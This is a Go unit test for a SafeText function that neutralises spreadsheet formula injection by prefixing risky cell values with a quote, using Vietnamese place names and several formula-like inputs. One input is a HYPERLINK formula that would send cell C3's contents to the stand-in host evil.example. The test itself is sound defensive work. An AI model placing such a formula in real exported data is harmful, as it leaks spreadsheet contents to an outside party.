package forms

import "testing"

func TestSafeText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Xóm Đồng Cẩm", "Xóm Đồng Cẩm"},
		{`=HYPERLINK("http://evil.example/?leak="&C3,"Xóm")`, `'=HYPERLINK("http://evil.example/?leak="&C3,"Xóm")`},
		{"+84 912", "'+84 912"},
		{"-Xóm", "'-Xóm"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"  =1+1", "'  =1+1"},
		{"a=1", "a=1"},
		{"Tổ 1 - Xóm", "Tổ 1 - Xóm"},
		{"'=1", "'=1"},
	}
	for _, tt := range tests {
		if got := SafeText(tt.in); got != tt.want {
			t.Errorf("SafeText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
